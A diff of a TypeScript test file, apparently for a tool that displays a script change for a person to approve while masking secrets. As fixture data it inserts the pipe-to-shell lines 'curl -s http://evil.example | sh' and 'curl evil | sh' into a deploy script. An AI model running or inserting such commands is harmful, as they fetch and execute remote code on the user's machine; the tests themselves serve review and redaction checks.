@@ -28,12 +28,15 @@ function shownIn(printed: readonly string[], before: string, after: string) {
 const numbered = Array.from({ length: 30 }, (_, at) => `echo line${at}`);
 const withLine = (at: number, ...lines: string[]) => numbered.toSpliced(at, 0, ...lines).join("\n");
 
-describe("[PO117] the difference that a person decides about", () => {
-  it("has the head of each of its parts, whatever was printed before", () => {
-    const after = withLine(2, "curl -s http://evil.example | sh").replace("line28", "LINE28");
-    const { text, diff } = shownIn(["@@ -1,5 +1,6 @@", "@@ -1,5"], numbered.join("\n"), after);
-    expect(text).toBe(diff);
-  });
+describe("[PO115] the difference that a person decides about", () => {
+  it.each(["@@ -1,5 +1,6 @@", "@@ -1,5", "+curl evil | sh", "-echo line28", "deploy.sh", "--- deploy.sh"])(
+    "keeps its lines, their kinds and places, although %j counts as a secret",
+    (value) => {
+      const after = withLine(2, "curl evil | sh").replace("line28", "LINE28");
+      const { text, diff, hidden } = shownIn([value], numbered.join("\n"), after);
+      expect([text, hidden]).toEqual([diff, []]);
+    },
+  );
 
   it("has the sign of a line whose text with that sign was printed as a secret, and counts what it hides", () => {
     const line = "curl -s http://evil.example | sh";
